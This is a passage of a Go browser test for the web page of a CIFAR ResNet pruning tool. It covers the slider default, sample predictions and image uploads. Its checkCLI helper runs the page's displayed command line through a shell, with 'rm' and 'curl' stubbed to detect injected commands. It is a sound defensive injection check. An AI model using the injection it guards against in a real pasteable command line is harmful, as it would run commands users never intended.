		if ratio != "0.50" && ratio != "0.5" {
			t.Errorf("ratio slider %q, want the default 0.5", ratio)
		}
	})

	t.Run("upload", func(t *testing.T) {
		navigate(t, b, "")
		evalDone(t, b)
		// Clicking a sample shows both networks' top-5.
		run(t, b.ctx, chromedp.Click(chromedp.CSS("#samples button")))
		poll(t, b, "a sample's top-5 lists", `document.querySelectorAll(".detail .guess").length === 10`, 30*time.Second)
		// A PNG: a test image enlarged to 96×96.
		pix := f.session.Test.Image(3)
		img := image.NewRGBA(image.Rect(0, 0, 96, 96))
		for y := range 96 {
			for x := range 96 {
				i := (y/3)*32 + x/3
				img.Set(x, y, color.RGBA{pix[i], pix[1024+i], pix[2048+i], 255})
			}
		}
		p := filepath.Join(t.TempDir(), "mine.png")
		fh, _ := os.Create(p)
		png.Encode(fh, img)
		fh.Close()
		run(t, b.ctx, chromedp.SetUploadFiles(chromedp.CSS("#upload"), []string{p}))
		poll(t, b, "the upload's top-5", `document.querySelectorAll("#upload-result .guess").length === 10`, 60*time.Second)
		top := run(t, b.ctx, chromedp.Evaluate[string](`document.querySelector("#upload-result .guess").textContent`))
		t.Logf("upload of test image 3 (%s): original's top guess %q", cifar.ClassNames[f.session.Test.Label(3)], top)
		// Not an image: a message.
		txt := filepath.Join(t.TempDir(), "notes.txt")
		os.WriteFile(txt, []byte("hello"), 0o644)
		run(t, b.ctx, chromedp.SetUploadFiles(chromedp.CSS("#upload"), []string{txt}))
		poll(t, b, "the non-image message", `(document.getElementById("upload-result")||{textContent:""}).textContent.includes("not an image")`, 20*time.Second)
		if errs := b.consoleErrors(); len(errs) > 0 {
			t.Errorf("console errors: %v", errs)
		}
	})
}

// checkCLI hands the page's command line to a POSIX shell with the program replaced by printf:
// the shell must split it into arguments and run nothing (no command substitution creates the
// marker file), and the last argument must be the weights' name (want, unless "").
func checkCLI(t *testing.T, b *browser, want string) {
	t.Helper()
	line := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("cli").textContent`))
	rest, ok := strings.CutPrefix(line, "bin/resnetprune ")
	if !ok {
		t.Fatalf("command line %q", line)
	}
	dir := t.TempDir()
	script := "rm() { touch ran; }; curl() { touch ran; }; printf '<%s>\\n' " + rest
	cmd := exec.Command("sh", "-c", script)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("sh -c %q: %v: %s", script, err, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil {
		t.Fatalf("pasting %q ran a command", line)
	}
	args := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
	last := args[len(args)-1]
	if args[0] != "<prune>" || len(args) < 4 || !strings.HasPrefix(last, "<") || !strings.HasSuffix(last, ">") {
		t.Fatalf("the shell split %q into %q", line, args)
	}
	if want != "" && last != "<"+want+">" {
		t.Errorf("weights argument %s, want <%s>", last, want)
	}
	t.Logf("command line %s → %d arguments, the last %s", line, len(args), last)
}
